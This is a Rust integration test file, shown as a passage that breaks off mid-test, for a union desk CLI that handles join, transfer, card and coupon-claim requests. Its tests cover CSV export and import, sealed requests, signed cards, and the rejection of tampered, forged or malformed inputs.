//! The union desk as a clerk runs it: the real `yizhan-feed desk …` commands on a real
//! desk database (filled by the desk's own `store_received`, as `desk pull` fills it)
//! and real CSV files; sealed requests sealed as the app seals them.
//! (Long: one file for the desk's whole round, its helpers shared by every test.)

use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use serde_json::value::RawValue;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use yizhan_core::envelope::{Envelope, Received};
use yizhan_core::feed::Statuses;
use yizhan_core::seal::{keypair, seal_request, sealed_plaintext, SealedBox};
use yizhan_core::vocab::RequestState;
use yizhan_feed::desk;

const BIN: &str = env!("CARGO_BIN_EXE_yizhan-feed");
const JOIN: &str = "00000000-0000-4000-8000-00000000000a";
const TRANSFER: &str = "00000000-0000-4000-8000-00000000000b";
const CLAIM: &str = "00000000-0000-4000-8000-00000000000c";
const CARD: &str = "00000000-0000-4000-8000-00000000000d";
/// When the phones made the requests, and when the intake received them (UTC).
const CREATED: &str = "2026-11-23T10:00:00+08:00";
const RECEIVED: &str = "2026-11-23T02:00:05Z";

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("yizhan-desk-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn desk(args: &[&str], db: &Path) -> Output {
    Command::new(BIN)
        .arg("desk")
        .arg(args[0])
        .arg("--db")
        .arg(db)
        .args(&args[1..])
        .output()
        .unwrap()
}

fn succeeded(run: &Output) -> String {
    assert!(
        run.status.success(),
        "{}{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
    String::from_utf8_lossy(&run.stdout).into_owned()
}

fn random(buf: &mut [u8]) {
    getrandom::getrandom(buf).unwrap();
}

/// The desk's key pair, base64: `(private, public)`.
fn desk_keys(seed: u8) -> ([u8; 32], String) {
    let (private, public) = keypair([seed; 32]);
    (private, B64.encode(public))
}

/// A plain request as the intake hands it over.
fn plain(id: &str, kind: &str, received_at: &str, payload: &str) -> Received {
    Received {
        seq: 0,
        received_at: received_at.to_string(),
        envelope: Envelope {
            id: id.to_string(),
            kind: kind.to_string(),
            created_at: CREATED.to_string(),
            payload: Some(RawValue::from_string(payload.to_string()).unwrap()),
            sealed: None,
        },
    }
}

/// The box the app seals `payload` (with a new reply key, returned) into for the
/// request `(id, kind, CREATED)`, to the desk key `public`.
fn seal(public: &str, id: &str, kind: &str, payload: &str) -> (SealedBox, String) {
    let mut key = [0u8; 32];
    random(&mut key);
    let reply_key = B64.encode(key);
    let raw = RawValue::from_string(payload.to_string()).unwrap();
    let text = sealed_plaintext(&raw, &reply_key);
    let sealed = seal_request(public, id, kind, CREATED, text.as_bytes(), &mut random).unwrap();
    (sealed, reply_key)
}

fn sealed_envelope(id: &str, kind: &str, sealed: SealedBox) -> Received {
    Received {
        seq: 0,
        received_at: RECEIVED.to_string(),
        envelope: Envelope {
            id: id.to_string(),
            kind: kind.to_string(),
            created_at: CREATED.to_string(),
            payload: None,
            sealed: Some(sealed),
        },
    }
}

fn application(name: &str, extra: &str) -> String {
    format!(
        r#"{{"name":"{name}","phone":"13912345678","id_number":"11010519491231002X","occupation":"courier","employer":"某某快递","union":"371500-express"{extra}}}"#
    )
}

/// Stores `requests` in the desk database at `db` as `desk pull` does.
fn store(db: &Path, requests: &[Received], key: Option<&[u8; 32]>) -> desk::Stored {
    let mut conn = desk::open_or_create(db.to_str().unwrap()).unwrap();
    desk::store_received(&mut conn, requests, key).unwrap()
}

/// A desk database holding a join, a transfer, a claim and a card request (plain).
fn desk_with_requests(dir: &Path) -> PathBuf {
    let db = dir.join("desk.sqlite");
    let requests = [
        plain(JOIN, "join", RECEIVED, &application("王五", "")),
        plain(
            TRANSFER,
            "transfer",
            RECEIVED,
            &application("赵六", r#","from_union":"原单位工会""#),
        ),
        plain(
            CLAIM,
            "claim",
            RECEIVED,
            r#"{"campaign_id":"nope","coupon_id":"c1","code_ref":"x"}"#,
        ),
        plain(
            CARD,
            "card",
            RECEIVED,
            r#"{"name":"钱七","member_no":"3715002026000999","union":"371500-express","id_number":"11010519491231003X"}"#,
        ),
    ];
    let stored = store(&db, &requests, None);
    assert_eq!((stored.new, stored.plain), (4, 4));
    db
}

/// The sheet's Chinese header of a column the tests name in English.
fn zh(column: &str) -> &str {
    match column {
        "id" => "编号",
        "kind" => "类型",
        "name" => "姓名",
        "phone" => "手机号",
        "id_number" => "身份证号",
        "occupation" => "职业",
        "employer" => "工作单位",
        "union" => "工会",
        "from_union" => "原工会",
        "decision" => "决定",
        "member_no" => "会员号",
        "note" => "备注",
        other => other,
    }
}

/// The exported sheet with `(id, decision, member_no, note)` filled in, as a clerk's
/// spreadsheet saves it (CSV UTF-8 with BOM).
fn fill(exported: &str, rows: &[(&str, &str, &str, &str)]) -> String {
    let mut reader = csv::Reader::from_reader(exported.trim_start_matches('\u{feff}').as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let at = |name: &str| header.iter().position(|h| h == zh(name)).unwrap();
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut writer = csv::Writer::from_writer(&mut out);
        writer.write_record(&header).unwrap();
        for record in reader.records() {
            let mut record: Vec<String> = record.unwrap().iter().map(String::from).collect();
            if let Some((_, decision, member_no, note)) =
                rows.iter().find(|r| r.0 == record[at("id")])
            {
                record[at("decision")] = decision.to_string();
                record[at("member_no")] = member_no.to_string();
                record[at("note")] = note.to_string();
            }
            writer.write_record(&record).unwrap();
        }
    }
    String::from_utf8(out).unwrap()
}

const CAMPAIGNS: &str = r#"{"campaigns":[
  {"id":"fit","kind":"fitness","title":"职工健身券","valid_from":"2026-11-01","valid_until":"2026-11-30",
   "per_member":1,"period":"month","total":2,"remaining":2,"members_only":true},
  {"id":"gloves","kind":"goods","title":"冬季手套","valid_from":"2026-11-01","valid_until":"2026-12-31",
   "per_member":1,"period":"campaign","total":100,"remaining":100,"members_only":false}]}"#;

/// The union's signing key in `dir` (made once by the real `keygen`).
fn union_key(dir: &Path) -> PathBuf {
    let key = dir.join("union.key");
    if !key.exists() {
        let run = Command::new(BIN)
            .args(["keygen", "--out", key.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(run.status.success());
    }
    key
}

/// A card for `member_no` signed with the key file `key`, valid until `until`.
fn signed_card(key: &Path, member_no: &str, until: &str) -> yizhan_core::feed::SignedCard {
    let text = std::fs::read_to_string(key).unwrap();
    let signed = yizhan_core::card::signed_text(member_no, "王五", "371500-express", until);
    yizhan_core::feed::SignedCard {
        member_no: member_no.into(),
        name: "王五".into(),
        union: "371500-express".into(),
        valid_until: until.into(),
        sig: yizhan_feed::keys::sign(&text, signed.as_bytes()).unwrap(),
    }
}

/// Runs `desk publish` into `dir/out` and returns its statuses.
fn publish(db: &Path, dir: &Path, extra: &[&str]) -> Statuses {
    let campaigns = dir.join("campaigns-in.json");
    std::fs::write(&campaigns, CAMPAIGNS).unwrap();
    let out = dir.join("out");
    let mut args = vec![
        "publish",
        "--campaigns",
        campaigns.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    // Members-only claims are checked against the union's key: every round has one.
    let key = union_key(dir);
    if !extra.contains(&"--sign-key") {
        args.extend_from_slice(&[
            "--sign-key",
            key.to_str().unwrap(),
            "--card-valid-until",
            "2099-12-31",
        ]);
    }
    let run = desk(&args, db);
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    serde_json::from_slice(&std::fs::read(out.join("statuses.json")).unwrap()).unwrap()
}

fn statuses(db: &Path, dir: &Path) -> Statuses {
    publish(db, dir, &[])
}

#[test]
fn a_round_at_the_desk_export_fill_import_statuses() {
    let dir = temp_dir("round");
    let db = desk_with_requests(&dir);
    let pending = dir.join("pending.csv");
    let run = desk(&["export", "--out", pending.to_str().unwrap()], &db);
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let bytes = std::fs::read(&pending).unwrap();
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "UTF-8 with BOM, for WPS and Excel"
    );
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.trim_end().lines().collect();
    assert!(lines[0].ends_with("决定,会员号,备注"), "{}", lines[0]);
    assert_eq!(
        lines.len(),
        4,
        "join, transfer and card; the claim is not decided here:\n{text}"
    );
    assert!(text.contains("王五") && text.contains("原单位工会") && !text.contains(CLAIM));

    // Before any decision every request reads "received".
    let before = statuses(&db, &dir);
    assert_eq!(
        before.for_request(JOIN).unwrap().state,
        RequestState::Received
    );
    // The claim in this set names no campaign of the file: turned down, with the reason.
    let claim = before.for_request(CLAIM).unwrap();
    assert_eq!(claim.state, RequestState::Rejected);
    assert!(claim.note.is_some());

    // The clerk fills two rows (the member number typed full-width) and leaves one.
    let filled = fill(
        &text,
        &[
            (
                JOIN,
                "approved",
                "３７１５００２０２６０００７７７",
                "欢迎加入",
            ),
            (TRANSFER, "rejected", "", "原单位未办理转出"),
        ],
    );
    std::fs::write(&pending, &filled).unwrap();
    let run = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(
        run.status.success(),
        "{}\n{filled}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(String::from_utf8_lossy(&run.stdout).contains("recorded 2 decision(s)"));

    let after = statuses(&db, &dir);
    let join = after.for_request(JOIN).unwrap();
    assert_eq!(join.state, RequestState::Approved);
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
    assert_eq!(join.note.as_deref(), Some("欢迎加入"));
    let transfer = after.for_request(TRANSFER).unwrap();
    assert_eq!(transfer.state, RequestState::Rejected);
    assert_eq!(transfer.member_no, None);
    assert_eq!(
        after.for_request(CARD).unwrap().state,
        RequestState::Received
    );
    assert!(
        !std::fs::read_to_string(dir.join("out/statuses.json"))
            .unwrap()
            .contains(JOIN),
        "refs, never ids"
    );

    // The same file again: decisions are recorded once.
    let again = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(!again.status.success());
    let said = String::from_utf8_lossy(&again.stderr);
    assert!(said.contains("decided before"), "{said}");
    // The next export holds only what is still pending.
    let run = desk(&["export", "--out", pending.to_str().unwrap()], &db);
    assert!(String::from_utf8_lossy(&run.stdout).contains("1 request(s) awaiting"));
}

#[test]
fn a_file_with_bad_rows_names_each_line_and_records_nothing() {
    let dir = temp_dir("bad");
    let db = desk_with_requests(&dir);
    let file = dir.join("filled.csv");
    std::fs::write(
        &file,
        format!(
            "\u{feff}id,kind,decision,member_no,note\n\
             {JOIN},join,approved,3715002026000777,好\n\
             {TRANSFER},transfer,yes,,\n\
             {CARD},card,approved,,\n\
             {CLAIM},claim,approved,3715002026000123,\n\
             00000000-0000-4000-8000-0000000000ff,join,rejected,,\n\
             {JOIN},join,rejected,,\n"
        ),
    )
    .unwrap();
    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
    assert!(!run.status.success());
    let said = String::from_utf8_lossy(&run.stderr);
    let name = file.to_str().unwrap();
    for expected in [
        format!("{name}:3: 决定 `yes`"),
        format!("{name}:4: 通过需要会员号"),
        format!("{name}:5: `{CLAIM}` is a claim request"),
        format!("{name}:6: no request with id"),
        format!("{name}:7: `{JOIN}` appears twice"),
    ] {
        assert!(said.contains(&expected), "missing `{expected}` in:\n{said}");
    }
    assert!(said.contains("nothing was recorded"), "{said}");
    // Line 2 was good, but nothing is recorded when any row is wrong.
    assert_eq!(
        statuses(&db, &dir).for_request(JOIN).unwrap().state,
        RequestState::Received
    );
}

/// A claim received by the intake on `day` (9:00 China time, in UTC); the phone's own
/// clock said the 1st of October, which never counts.
fn claim(n: u32, campaign: &str, member_no: Option<&str>, code: &str, day: &str) -> Received {
    carded_claim(n, campaign, member_no, None, code, day)
}

/// A claim as `claim`, carrying the worker's signed card.
fn carded_claim(
    n: u32,
    campaign: &str,
    member_no: Option<&str>,
    card: Option<yizhan_core::feed::SignedCard>,
    code: &str,
    day: &str,
) -> Received {
    let id = format!("00000000-0000-4000-8000-{n:012}");
    let code_ref = yizhan_core::coupon_code::code_ref(code);
    let member = member_no.map_or("null".to_string(), |m| format!("\"{m}\""));
    let card = card.map_or("null".to_string(), |c| serde_json::to_string(&c).unwrap());
    let mut r = plain(
        &id,
        "claim",
        &format!("{day}T01:00:00Z"),
        &format!(
            r#"{{"campaign_id":"{campaign}","coupon_id":"c{n}","member_no":{member},"card":{card},"code_ref":"{code_ref}"}}"#
        ),
    );
    r.envelope.created_at = "2026-10-01T09:00:00+08:00".into();
    r
}

#[test]
fn claims_are_decided_by_the_campaign_rules_redemptions_recorded_and_cards_signed() {
    let dir = temp_dir("claims");
    let db = desk_with_requests(&dir);
    // The union's key, and cards it signed (and one another key signed, one expired).
    let key = union_key(&dir);
    let card = |no: &str| Some(signed_card(&key, no, "2027-12-31"));
    let other_key = dir.join("other.key");
    assert!(Command::new(BIN)
        .args(["keygen", "--out", other_key.to_str().unwrap()])
        .output()
        .unwrap()
        .status
        .success());
    let claims = [
        carded_claim(
            1,
            "fit",
            Some("3715002026000001"),
            card("3715002026000001"),
            "CODEA1",
            "2026-11-05",
        ),
        carded_claim(
            2,
            "fit",
            Some("3715002026000001"),
            card("3715002026000001"),
            "CODEA2",
            "2026-11-06",
        ),
        claim(3, "fit", None, "CODEN", "2026-11-06"),
        // A number typed in, with no card: members-only coupons are not for it.
        claim(9, "fit", Some("3715002026000009"), "CODET", "2026-11-06"),
        // A card signed with another key; a card past its date.
        carded_claim(
            10,
            "fit",
            None,
            Some(signed_card(&other_key, "3715002026000010", "2027-12-31")),
            "CODEF",
            "2026-11-06",
        ),
        carded_claim(
            11,
            "fit",
            None,
            Some(signed_card(&key, "3715002026000011", "2026-11-01")),
            "CODEE",
            "2026-11-06",
        ),
        // The limit dodged by changing the number sent: counted by the card's.
        carded_claim(
            12,
            "fit",
            Some("9999999999"),
            card("3715002026000001"),
            "CODED",
            "2026-11-06",
        ),
        carded_claim(
            4,
            "fit",
            Some("3715002026000002"),
            card("3715002026000002"),
            "CODEB1",
            "2026-11-07",
        ),
        carded_claim(
            5,
            "fit",
            Some("3715002026000003"),
            card("3715002026000003"),
            "CODEC1",
            "2026-11-08",
        ),
        claim(6, "gloves", None, "CODEL", "2027-01-02"),
        claim(7, "gloves", None, "CODEG", "2026-12-01"),
        claim(8, "nope", Some("3715002026000001"), "CODEU", "2026-11-05"),
    ];
    let [a1, a2, none, typed, forged_card, expired_card, dodge, b1, c1, late, gloves, unknown] =
        claims.each_ref().map(|c| c.envelope.id.clone());
    store(&db, &claims, None);
    // A venue used A1 (twice: the first use counts) and tried a code never issued.
    // Someone who read B1's public ref posts a redeem without the code, one with the
    // code under another campaign, one dated after it arrived, one with HTML for a
    // date: none of them counts.
    let redeems: Vec<Received> = [
        (90, Some("CODEA1"), "CODEA1", "fit", "2026-11-10T10:00:00+08:00"),
        (91, Some("CODEA1"), "CODEA1", "fit", "2026-11-10T10:00:00+08:00"),
        (92, Some("FORGED"), "FORGED", "fit", "2026-11-10T10:00:00+08:00"),
        (93, None, "CODEB1", "fit", "2026-11-10T10:00:00+08:00"),
        (94, Some("CODEB1"), "CODEB1", "gloves", "2026-11-10T10:00:00+08:00"),
        (95, Some("CODEB1"), "CODEB1", "fit", "2026-12-10T10:00:00+08:00"),
        (96, Some("CODEB1"), "CODEB1", "fit", "<b>2026-11-10</b>"),
    ]
    .iter()
    .map(|(n, code, of, campaign, used_at)| {
        let code = code.map_or("null".to_string(), |c| format!("\"{c}\""));
        plain(
            &format!("00000000-0000-4000-8000-{n:012}"),
            "redeem",
            "2026-11-10T02:00:00Z",
            &format!(
                r#"{{"code":{code},"code_ref":"{}","campaign":"{campaign}","venue":"健身馆","used_at":"{used_at}"}}"#,
                yizhan_core::coupon_code::code_ref(of)
            ),
        )
    })
    .collect();
    store(&db, &redeems, None);
    // The clerk approves the join request; the union signs cards.
    let filled = dir.join("filled.csv");
    std::fs::write(
        &filled,
        format!("id,decision,member_no,note\n{JOIN},approved,3715002026000777,\n"),
    )
    .unwrap();
    assert!(desk(&["import", "--file", filled.to_str().unwrap()], &db)
        .status
        .success());

    let statuses = publish(
        &db,
        &dir,
        &[
            "--sign-key",
            key.to_str().unwrap(),
            "--card-valid-until",
            "2027-12-31",
        ],
    );
    let said = |id: &str| {
        let s = statuses.for_request(id).unwrap();
        (s.state.clone(), s.note.clone().unwrap_or_default())
    };
    assert_eq!(said(&a1).0, RequestState::Approved);
    assert_eq!(said(&a2), (RequestState::Rejected, "本月已领满".into()));
    let members_only = "仅限工会核验过会员证的会员领取：请先在“我的”页申请核验会员证";
    assert_eq!(said(&none), (RequestState::Rejected, members_only.into()));
    assert_eq!(said(&typed), (RequestState::Rejected, members_only.into()));
    assert_eq!(
        said(&forged_card),
        (
            RequestState::Rejected,
            "会员证未通过工会核验，不能领取会员专享福利".into()
        )
    );
    assert_eq!(
        said(&expired_card),
        (RequestState::Rejected, "会员证已过有效期".into())
    );
    assert_eq!(said(&dodge), (RequestState::Rejected, "本月已领满".into()));
    assert_eq!(said(&b1).0, RequestState::Approved);
    assert_eq!(
        said(&c1),
        (RequestState::Rejected, "已发完".into()),
        "total 2: first come, first served"
    );
    assert_eq!(
        said(&late),
        (RequestState::Rejected, "领取时不在活动有效期内".into())
    );
    assert_eq!(said(&gloves).0, RequestState::Approved);
    assert_eq!(
        said(&unknown),
        (RequestState::Rejected, "没有这个活动".into())
    );

    let out = dir.join("out");
    let coupons: yizhan_core::feed::Coupons =
        serde_json::from_slice(&std::fs::read(out.join("coupons.json")).unwrap()).unwrap();
    assert_eq!(coupons.coupons.len(), 3, "A1, B1 and the gloves");
    let used = |code: &str| {
        let r = yizhan_core::coupon_code::code_ref(code);
        coupons
            .coupons
            .iter()
            .find(|c| c.reference == r)
            .map(|c| c.used.clone())
    };
    assert_eq!(used("CODEA1"), Some(Some("2026-11-10".into())));
    assert_eq!(
        used("CODEB1"),
        Some(None),
        "no redeem without the code counts"
    );
    assert_eq!(
        used("FORGED"),
        None,
        "a code never issued is not in the list"
    );
    let campaigns: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("campaigns.json")).unwrap()).unwrap();
    assert_eq!(campaigns["campaigns"][0]["remaining"], 0);
    assert_eq!(campaigns["campaigns"][1]["remaining"], 99);

    // The approved join carries a card signed with the union's key, and only that key.
    let card = statuses
        .for_request(JOIN)
        .unwrap()
        .card
        .clone()
        .expect("a signed card");
    assert_eq!(
        (card.member_no.as_str(), card.name.as_str()),
        ("3715002026000777", "王五")
    );
    let public = std::fs::read_to_string(dir.join("union.key.pub")).unwrap();
    let public: [u8; 32] =
        base64::Engine::decode(&base64::engine::general_purpose::STANDARD, public.trim())
            .unwrap()
            .try_into()
            .unwrap();
    assert!(yizhan_core::card::verify(&card, &[public]));
    let forged = yizhan_core::feed::SignedCard {
        name: "李四".into(),
        ..card
    };
    assert!(!yizhan_core::card::verify(&forged, &[public]));

    // What the desk wrote is what `build` publishes next.
    let stations = dir.join("stations.csv");
    std::fs::write(&stations, "id,region,region_name,name,address,lng,lat,services,hours,phone,host,entry,entry_note,checked,updated\n\
         371500-0001,371500,聊城市,黄山路驿站,,115.98,36.45,water,24/7,,,open,,,\n").unwrap();
    let feed = dir.join("feed");
    let built = Command::new(BIN)
        .args([
            "build",
            "--stations",
            stations.to_str().unwrap(),
            "--datum",
            "gcj02",
            "--sequence",
            "2",
            "--out",
        ])
        .arg(&feed)
        .args(["--campaigns", out.join("campaigns.json").to_str().unwrap()])
        .args(["--statuses", out.join("statuses.json").to_str().unwrap()])
        .args(["--coupons", out.join("coupons.json").to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let manifest = std::fs::read(feed.join("manifest.json")).unwrap();
    let manifest =
        yizhan_core::feed::check_manifest(&manifest, None, &[], "/feed/manifest.json").unwrap();
    let coupons_ref = manifest
        .coupons
        .expect("the manifest names the coupons file");
    let bytes = std::fs::read(feed.join(&coupons_ref.path)).unwrap();
    assert!(yizhan_core::feed::check_file(&bytes, &coupons_ref.sha256, &coupons_ref.path).is_ok());

    // Published again: nothing is decided twice, nothing counted twice.
    let again = publish(&db, &dir, &[]);
    assert_eq!(
        again.for_request(&a1).unwrap().state,
        RequestState::Approved
    );
    let coupons_again: yizhan_core::feed::Coupons =
        serde_json::from_slice(&std::fs::read(out.join("coupons.json")).unwrap()).unwrap();
    assert_eq!(coupons_again.coupons.len(), 3);
}

#[test]
fn keygen_never_overwrites_a_key() {
    let dir = temp_dir("keygen");
    for command in [&["keygen"][..], &["desk", "keygen"][..]] {
        let key = dir.join(format!("{}.key", command.len()));
        let run = |key: &Path| {
            Command::new(BIN)
                .args(command)
                .arg("--out")
                .arg(key)
                .output()
                .unwrap()
        };
        succeeded(&run(&key));
        let pub_path = PathBuf::from(format!("{}.pub", key.display()));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&key).unwrap().permissions().mode();
            assert_eq!(
                mode & 0o777,
                0o600,
                "{command:?}: the key is its owner's only"
            );
        }
        let (secret, public) = (
            std::fs::read(&key).unwrap(),
            std::fs::read(&pub_path).unwrap(),
        );
        // Again on the same files, or with only the .pub left: refused, nothing written.
        let again = run(&key);
        assert!(!again.status.success(), "{command:?}");
        assert!(String::from_utf8_lossy(&again.stderr).contains("exists"));
        assert_eq!(std::fs::read(&key).unwrap(), secret);
        assert_eq!(std::fs::read(&pub_path).unwrap(), public);
        std::fs::remove_file(&key).unwrap();
        assert!(
            !run(&key).status.success(),
            "{command:?}: the .pub is there"
        );
        assert!(!key.exists(), "nothing written");
        assert_eq!(std::fs::read(&pub_path).unwrap(), public);
    }
    // The desk's pair: what the app seals to the .pub opens with the key.
    let key = dir.join("desk.key");
    let said = succeeded(
        &Command::new(BIN)
            .args(["desk", "keygen", "--out", key.to_str().unwrap()])
            .output()
            .unwrap(),
    );
    let public = std::fs::read_to_string(dir.join("desk.key.pub")).unwrap();
    assert!(said.contains(public.trim()) && said.contains("build --seal-key"));
    let private =
        yizhan_feed::keys::desk_private_key(&std::fs::read_to_string(&key).unwrap()).unwrap();
    let (sealed, _) = seal(public.trim(), JOIN, "join", &application("王五", ""));
    let db = dir.join("desk.sqlite");
    let stored = store(
        &db,
        &[sealed_envelope(JOIN, "join", sealed)],
        Some(&private),
    );
    assert_eq!((stored.new, stored.opened), (1, 1));
}

#[test]
fn a_sealed_join_is_opened_exported_and_answered_sealed() {
    let dir = temp_dir("sealed");
    let (private, public) = desk_keys(7);
    let db = dir.join("desk.sqlite");
    let (sealed, reply_key) = seal(&public, JOIN, "join", &application("王五", ""));
    assert!(!sealed.ct.contains("王五"));
    let stored = store(
        &db,
        &[sealed_envelope(JOIN, "join", sealed)],
        Some(&private),
    );
    assert_eq!((stored.new, stored.opened, stored.ids.len()), (1, 1, 1));

    let pending = dir.join("pending.csv");
    let out = succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
    assert!(out.contains("1 request(s) awaiting"), "{out}");
    let text = std::fs::read_to_string(&pending).unwrap();
    assert!(text.contains("王五") && text.contains(JOIN), "{text}");

    std::fs::write(
        &pending,
        fill(&text, &[(JOIN, "approved", "3715002026000777", "欢迎加入")]),
    )
    .unwrap();
    succeeded(&desk(&["import", "--file", pending.to_str().unwrap()], &db));
    let key = dir.join("union.key");
    succeeded(
        &Command::new(BIN)
            .args(["keygen", "--out", key.to_str().unwrap()])
            .output()
            .unwrap(),
    );
    let statuses = publish(
        &db,
        &dir,
        &[
            "--sign-key",
            key.to_str().unwrap(),
            "--card-valid-until",
            "2027-12-31",
        ],
    );
    // The file shows a box, and nothing of the worker.
    let bytes = std::fs::read_to_string(dir.join("out/statuses.json")).unwrap();
    for personal in ["王五", "3715002026000777", "欢迎加入", "approved", JOIN] {
        assert!(!bytes.contains(personal), "{personal} in {bytes}");
    }
    let entry = &statuses.statuses[0];
    assert!(entry.sealed.is_some());
    assert!(statuses.for_request(JOIN).is_none(), "nobody else reads it");
    // The device that asked opens it with its reply key.
    let readable = yizhan_core::seal::readable_statuses(&statuses, &[(JOIN, reply_key.as_str())]);
    let join = readable.for_request(JOIN).unwrap();
    assert_eq!(join.state, RequestState::Approved);
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
    assert_eq!(join.note.as_deref(), Some("欢迎加入"));
    assert_eq!(join.card.as_ref().unwrap().name, "王五");
}

#[test]
fn boxes_that_do_not_open_are_kept_with_the_problem_and_open_with_the_right_key() {
    let dir = temp_dir("problems");
    let db = dir.join("desk.sqlite");
    let (private, public) = desk_keys(7);
    let (_, other_public) = desk_keys(8);
    let (wrong_private, _) = desk_keys(9);
    let tampered_id = "00000000-0000-4000-8000-000000000101";
    let moved_id = "00000000-0000-4000-8000-000000000102";
    let wrong_key_id = "00000000-0000-4000-8000-000000000103";
    let not_a_join = "00000000-0000-4000-8000-000000000104";
    let (mut tampered, _) = seal(&public, tampered_id, "join", &application("甲", ""));
    let mut ct = B64.decode(&tampered.ct).unwrap();
    ct[5] ^= 1;
    tampered.ct = B64.encode(ct);
    let (original, _) = seal(&public, JOIN, "join", &application("乙", ""));
    let (to_other_desk, _) = seal(&other_public, wrong_key_id, "join", &application("丙", ""));
    let (not_join, _) = seal(&public, not_a_join, "join", r#"{"station_id":"x"}"#);
    let stored = store(
        &db,
        &[
            sealed_envelope(tampered_id, "join", tampered),
            sealed_envelope(JOIN, "join", original.clone()),
            sealed_envelope(moved_id, "join", original),
            sealed_envelope(wrong_key_id, "join", to_other_desk.clone()),
            sealed_envelope(not_a_join, "join", not_join),
        ],
        Some(&private),
    );
    assert_eq!(
        (stored.new, stored.opened),
        (5, 1),
        "only the original opens"
    );
    let problems = String::from_utf8_lossy(&desk(&["problems"], &db).stdout).into_owned();
    let line = |id: &str| {
        problems
            .lines()
            .find(|l| l.starts_with(id))
            .unwrap_or_else(|| panic!("{id} not listed:\n{problems}"))
            .to_string()
    };
    assert!(
        line(tampered_id).contains("changed on the way"),
        "{problems}"
    );
    assert!(
        line(wrong_key_id).contains("another desk key"),
        "{problems}"
    );
    assert!(
        line(moved_id).contains(&format!("taken from another request ({JOIN})")),
        "{problems}"
    );
    assert!(
        line(not_a_join).contains("not a `join` request"),
        "{problems}"
    );
    assert!(problems.contains("4 request(s) held with a problem"));
    // None of them is exported, answered, or can be decided.
    let pending = dir.join("pending.csv");
    let out = succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
    assert!(out.contains("1 request(s) awaiting"), "{out}");
    let statuses = publish(&db, &dir, &[]);
    assert_eq!(statuses.statuses.len(), 1, "only the original's answer");
    let file = dir.join("filled.csv");
    std::fs::write(
        &file,
        format!("id,decision,member_no,note\n{wrong_key_id},rejected,,\n"),
    )
    .unwrap();
    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
    assert!(String::from_utf8_lossy(&run.stderr).contains("held with a problem"));

    // A pull with a wrong key changes nothing; the next with the other desk's key
    // opens the one sealed to it (and only that one).
    let retry = |key: &[u8; 32]| {
        let mut conn = desk::open(db.to_str().unwrap()).unwrap();
        desk::retry_held(&mut conn, Some(key)).unwrap().0
    };
    assert_eq!(retry(&wrong_private), 0);
    let (other_private, _) = desk_keys(8);
    assert_eq!(retry(&other_private), 1);
    let problems = String::from_utf8_lossy(&desk(&["problems"], &db).stdout).into_owned();
    assert!(!problems.contains(wrong_key_id), "{problems}");
    assert!(problems.contains("3 request(s) held with a problem"));
}

#[test]
fn a_sealed_join_with_a_line_break_in_the_name_is_held_with_the_problem() {
    let dir = temp_dir("control");
    let (private, public) = desk_keys(7);
    let db = dir.join("desk.sqlite");
    let broken = "00000000-0000-4000-8000-000000000201";
    let tabbed = "00000000-0000-4000-8000-000000000202";
    // As the app's JSON carries them: `"name":"张\n三"`, a tab in the union it comes from.
    let (line_break, _) = seal(&public, broken, "join", &application("张\\n三", ""));
    let (tab, _) = seal(
        &public,
        tabbed,
        "transfer",
        &application("李四", r#","from_union":"原单位\t工会""#),
    );
    let (fine, _) = seal(&public, JOIN, "join", &application("王五", ""));
    let stored = store(
        &db,
        &[
            sealed_envelope(broken, "join", line_break),
            sealed_envelope(tabbed, "transfer", tab),
            sealed_envelope(JOIN, "join", fine),
        ],
        Some(&private),
    );
    assert_eq!((stored.new, stored.opened), (3, 1), "only the clean one");
    let problems = String::from_utf8_lossy(&desk(&["problems"], &db).stdout).into_owned();
    let line = |id: &str| {
        problems
            .lines()
            .find(|l| l.starts_with(id))
            .unwrap_or_else(|| panic!("{id} not listed:\n{problems}"))
            .to_string()
    };
    assert!(line(broken).contains("`payload.name`"), "{problems}");
    assert!(line(broken).contains("line break"), "{problems}");
    assert!(line(tabbed).contains("`payload.from_union`"), "{problems}");
    assert!(problems.contains("2 request(s) held with a problem"));
    // Never exported, never answered, never signed.
    let pending = dir.join("pending.csv");
    let out = succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
    assert!(out.contains("1 request(s) awaiting"), "{out}");
    let text = std::fs::read_to_string(&pending).unwrap();
    assert!(!text.contains(broken) && !text.contains(tabbed), "{text}");
    let statuses = publish(&db, &dir, &[]);
    assert_eq!(statuses.statuses.len(), 1, "only the clean one's answer");
}

#[test]
fn an_envelope_replayed_is_stored_once() {
    let dir = temp_dir("replay");
    let db = dir.join("desk.sqlite");
    let (private, public) = desk_keys(7);
    let (sealed, _) = seal(&public, JOIN, "join", &application("王五", ""));
    let envelope = sealed_envelope(JOIN, "join", sealed);
    let first = store(&db, &[envelope.clone(), envelope.clone()], Some(&private));
